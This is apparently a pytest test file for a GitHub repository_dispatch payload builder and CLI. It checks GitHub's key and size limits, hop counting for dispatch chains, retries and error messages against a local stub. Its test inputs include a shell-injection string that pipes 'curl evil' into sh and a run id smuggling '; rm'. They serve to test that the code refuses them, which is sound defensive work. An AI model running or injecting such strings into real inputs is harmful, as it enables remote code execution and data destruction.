"""repository_dispatch payloads: GitHub's limits, the chain's hop and run id, sending.

Sending goes to the GitHub stand-in (``tests/github_stub.py``), which validates each request
against ``../shared/corpus/github-rest/operations.json`` (github/rest-api-description, see
SOURCES.md there).
"""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest
from cli_helpers import assert_user_error, run_cli
from github_stub import GitHubStub

from orchestration.github.dispatch import (
    MAX_PAYLOAD_BYTES,
    DispatchError,
    build_client_payload,
    next_hop,
    payload_size,
)

HOSTILE = '"; curl evil | sh; #'


def test_the_payload_carries_the_chain() -> None:
    payload = build_client_payload("corr-1", 2, 123456789, {"agent": "security"})
    assert payload == {
        "correlation_id": "corr-1",
        "hop": 2,
        "artifact_run_id": "123456789",
        "agent": "security",
    }


def test_ten_top_level_keys_are_accepted_eleven_are_not() -> None:
    seven = {f"k{i}": i for i in range(7)}
    assert len(build_client_payload("c", 1, 1, seven)) == 10
    with pytest.raises(DispatchError) as info:
        build_client_payload("c", 1, 1, {**seven, "k7": 7})
    assert "11 top-level keys" in info.value.one_line()
    assert "allows 10" in info.value.one_line()


def test_a_payload_of_70_kb_is_refused_not_cut() -> None:
    extra = {"blob": "x" * 70 * 1024}
    with pytest.raises(DispatchError, match="bytes; GitHub accepts under 65,536"):
        build_client_payload("c", 1, None, extra)
    near = {"blob": "x" * (MAX_PAYLOAD_BYTES - 200)}
    payload = build_client_payload("c", 1, None, near)
    assert payload_size(payload) < MAX_PAYLOAD_BYTES
    assert payload["blob"] == near["blob"]


def test_size_counts_utf8_bytes() -> None:
    with pytest.raises(DispatchError):
        build_client_payload("c", 1, None, {"blob": "é" * 33_000})  # 66,000 bytes


@pytest.mark.parametrize(
    ("args", "needle"),
    [
        pytest.param(("c", 1, None, {"hop": 9}), "'hop' is set by Forgeflow", id="reserved-key"),
        pytest.param((HOSTILE, 1, None, None), "correlation id", id="hostile-correlation"),
        pytest.param(("c", 0, None, None), "hop 0", id="hop-zero"),
        pytest.param(("c", 51, None, None), "reached hop 51 (limit 50)", id="endless-chain"),
        pytest.param(("c", 1, "12; rm", None), "artifact run id", id="bad-run-id"),
        pytest.param(("c", 1, None, {"x": {1, 2}}), "not JSON", id="not-json"),
    ],
)
def test_bad_payloads_are_refused_with_one_line(args: tuple[Any, ...], needle: str) -> None:
    with pytest.raises(DispatchError) as info:
        build_client_payload(*args)
    assert needle in info.value.one_line()


def test_next_hop_follows_the_current_dispatch(corpus_events: Path) -> None:
    """repository_dispatch.payload.json (octokit/webhooks): its client_payload has no hop."""
    event = json.loads((corpus_events / "repository_dispatch.payload.json").read_text())
    assert next_hop(event) == 1
    event["client_payload"]["hop"] = 2
    assert next_hop(event) == 3
    assert next_hop(None) == 1
    assert next_hop({"client_payload": {"hop": "2"}}) == 1


@pytest.fixture
def stub(spec_stub: GitHubStub) -> GitHubStub:
    return spec_stub


def _env(stub: GitHubStub, **extra: str) -> dict[str, str]:
    return {
        "GITHUB_TOKEN": "test-token",
        "GITHUB_REPOSITORY": "octocat/Hello-World",
        "GITHUB_API_URL": stub.url,
        "GITHUB_RUN_ID": "",
        "GITHUB_EVENT_PATH": "",
        **extra,
    }


def test_cli_dispatches_the_next_hop_of_a_chain(
    stub: GitHubStub, corpus_events: Path, tmp_path: Path
) -> None:
    """The current event is repository_dispatch.payload.json (octokit/webhooks) at hop 2."""
    event = json.loads((corpus_events / "repository_dispatch.payload.json").read_text())
    event["client_payload"] = {"correlation_id": "chain-7", "hop": 2}
    event_path = tmp_path / "event.json"
    event_path.write_text(json.dumps(event))
    extra = tmp_path / "extra.json"
    extra.write_text(json.dumps({"agent": "security", "note": HOSTILE}))
    proc = run_cli(
        "-m", "orchestration", "dispatch",
        "--event-type", "forgeflow.security", "--correlation-id", "chain-7",
        "--payload-file", extra,
        env=_env(stub, GITHUB_EVENT_PATH=str(event_path), GITHUB_RUN_ID="987654321"),
    )  # fmt: skip
    assert proc.returncode == 0, proc.stderr
    assert "hop 3" in proc.stdout
    assert stub.dispatches() == [
        {
            "repo": "octocat/Hello-World",
            "event_type": "forgeflow.security",
            "client_payload": {
                "correlation_id": "chain-7",
                "hop": 3,
                "artifact_run_id": "987654321",
                "agent": "security",
                "note": HOSTILE,
            },
        }
    ]


def test_cli_retries_a_dispatch_refused_for_a_moment(stub: GitHubStub) -> None:
    stub.fail_next(1, status=503, operation="repos/create-dispatch-event", retry_after=0)
    proc = run_cli(
        "-m", "orchestration", "dispatch", "--event-type", "next", "--correlation-id", "c",
        env=_env(stub),
    )  # fmt: skip
    assert proc.returncode == 0, proc.stderr
    assert [r["status"] for r in stub.requests()] == [503, 204]
    assert len(stub.dispatches()) == 1


def test_cli_dry_run_prints_without_sending(stub: GitHubStub) -> None:
    proc = run_cli(
        "-m", "orchestration", "dispatch", "--event-type", "next", "--correlation-id", "c",
        "--artifact-run-id", "42", "--hop", "4", "--dry-run",
        env=_env(stub),
    )  # fmt: skip
    assert proc.returncode == 0, proc.stderr
    assert json.loads(proc.stdout) == {
        "event_type": "next",
        "client_payload": {"correlation_id": "c", "hop": 4, "artifact_run_id": "42"},
    }
    assert stub.requests() == []


@pytest.mark.parametrize(
    ("payload", "args", "needle"),
    [
        pytest.param({f"k{i}": i for i in range(8)}, [], "11 top-level keys", id="eleven-keys"),
        pytest.param({"blob": "x" * 70 * 1024}, [], "bytes", id="seventy-kb"),
        pytest.param(["not", "an", "object"], [], "must be a JSON object", id="not-object"),
        pytest.param({}, ["--event-type", HOSTILE], "event type", id="hostile-event-type"),
    ],
)
def test_cli_refuses_bad_payloads_before_sending(
    stub: GitHubStub, tmp_path: Path, payload: Any, args: list[str], needle: str
) -> None:
    extra = tmp_path / "extra.json"
    extra.write_text(json.dumps(payload))
    proc = run_cli(
        "-m", "orchestration", "dispatch", "--event-type", "next", "--correlation-id", "c",
        "--artifact-run-id", "1", "--payload-file", extra, *args,
        env=_env(stub),
    )  # fmt: skip
    assert_user_error(proc, needle)
    assert stub.requests() == []


def test_cli_without_a_token_is_one_line(stub: GitHubStub) -> None:
    proc = run_cli(
        "-m", "orchestration", "dispatch", "--event-type", "next", "--correlation-id", "c",
        env=_env(stub, GITHUB_TOKEN=""),
    )  # fmt: skip
    assert_user_error(proc, "GITHUB_TOKEN is not set")
    assert stub.requests() == []


def test_cli_reports_a_refused_dispatch_instead_of_losing_it(stub: GitHubStub) -> None:
    stub.fail_next(1, status=404, operation="repos/create-dispatch-event", message="Not Found")
    proc = run_cli(
        "-m", "orchestration", "dispatch", "--event-type", "next", "--correlation-id", "c",
        env=_env(stub),
    )  # fmt: skip
    assert_user_error(proc, "POST dispatch next to octocat/Hello-World", "404")
    assert stub.dispatches() == []
